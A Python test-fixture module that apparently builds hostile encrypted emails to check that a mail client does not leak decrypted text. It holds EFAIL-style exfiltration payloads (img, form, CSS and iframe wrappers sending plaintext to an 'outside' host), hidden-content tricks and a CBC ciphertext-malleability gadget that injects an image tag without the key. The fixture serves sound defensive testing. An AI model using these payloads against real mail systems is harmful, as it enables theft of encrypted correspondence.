# SPDX-License-Identifier: MPL-2.0
"""Mails that would send decrypted text away, if they were let."""
import base64
import re

from mailbox import ALICE, BOB
from mails import head, take_apart, text_entity
from opening_mails import LETTER, MARKER
from sealer import multipart

CBC_IV = re.compile(rb"\x06\x09\x60\x86\x48\x01\x65\x03\x04\x01\x2a\x04\x10")
BLOCK = 16


def mails(sealer, outside):
    """By name; `outside` is where they would send it."""
    letter = text_entity(LETTER)
    sealed = sealer.sealed(letter)
    entities = {
        "leak-image": multipart("mixed", [html(f'<img src="{outside}/image?'), sealed, html('">')]),
        "leak-form": multipart("mixed", [html(f'<form action="{outside}/form"><input type=submit><textarea name=t>'),
                                         sealed, html("</textarea></form>")]),
        "leak-style": multipart("mixed", [html(f'<style>body{{background:url("{outside}/style?'), sealed, html('")}</style>')]),
        "leak-frame": multipart("mixed", [html(f'<base href="{outside}/"><iframe srcdoc="<img src=frame?'), sealed, html('">')]),
        "hidden-style": multipart("mixed", [html('<p>Lunch?</p><div style="display:none">'), sealed, html("</div>")]),
        "hidden-lines": multipart("mixed", [text_entity("Lunch?\n" + "\n" * 5000), sealed]),
        "hidden-inside": sealer.detached(multipart("mixed", [text_entity("Lunch?\n"), sealed])),
        "remote-sealed": sealer.sealed(sealer.detached(html(everything(outside)))),
        "remote-cbc": sealer.sealed(html(everything(outside)), "aes-256-cbc"),
        "gadget": with_gadget(sealer.sealed(html("<p>" + "a" * 600 + f"{MARKER}</p>"), "aes-256-cbc")),
        "fence": html(f'<p>Fence</p><img src="{outside}/fence">'),
    }
    return {name: head(ALICE, BOB, name, ident=name) + entity for name, entity in entities.items()}


def html(page):
    return b"Content-Type: text/html; charset=utf-8\r\n\r\n" + page.encode() + b"\r\n"


def everything(outside):
    """Every way a page has of loading something."""
    return f"""<html><head><base href="{outside}/base/"><link rel="stylesheet" href="{outside}/css"><link rel="icon"
href="{outside}/icon"><link rel="prefetch" href="{outside}/prefetch"><link rel="preconnect" href="{outside}/"><link
rel="preload" as="image" href="{outside}/preload"><link rel="dns-prefetch" href="{outside}/"><meta http-equiv="refresh"
content="0;url={outside}/refresh"><style>@import url("{outside}/import"); @font-face {{font-family: far; src:
url("{outside}/font")}} p {{font-family: far; background: url("{outside}/background")}}</style></head><body
background="{outside}/body"><p>{MARKER}</p><img src="{outside}/image"><img src="relative"><img srcset="{outside}/set 1x">
<picture><source srcset="{outside}/source"><img src="{outside}/picture"></picture><iframe src="{outside}/frame"></iframe>
<iframe srcdoc="<img src='{outside}/inner'>"></iframe><object data="{outside}/object"></object><embed
src="{outside}/embed"><video src="{outside}/video" poster="{outside}/poster" autoplay></video><audio src="{outside}/audio"
autoplay></audio><input type="image" src="{outside}/input"><svg><image href="{outside}/svg"/></svg><table
background="{outside}/table"><tr><td>.</td></tr></table><script src="{outside}/script"></script></body></html>"""


def with_gadget(entity):
    """Puts a picture in the middle of CBC ciphertext whose beginning is known, without the key."""
    _, der = take_apart(entity)
    iv = CBC_IV.search(der).end()
    # The ciphertext is what is left of the DER, in one piece: [0] and its length come before it.
    start = len(der) - (len(der) - iv - BLOCK) // BLOCK * BLOCK
    blocks = [der[at:at + BLOCK] for at in range(start, len(der), BLOCK)]
    known = b"Content-Type: text/html; charset"[BLOCK:]
    wanted = b'<img src="//x/">'
    bent = bytes(a ^ b ^ c for a, b, c in zip(blocks[0], known, wanted))
    middle = len(blocks) // 2
    # Two blocks are replaced, so that every length stays as it was.
    blocks[middle:middle + 2] = [bent, blocks[1]]
    changed = der[:start] + b"".join(blocks)
    fields, _ = entity.split(b"\r\n\r\n", 1)
    return fields + b"\r\n\r\n" + base64.encodebytes(changed).replace(b"\n", b"\r\n")
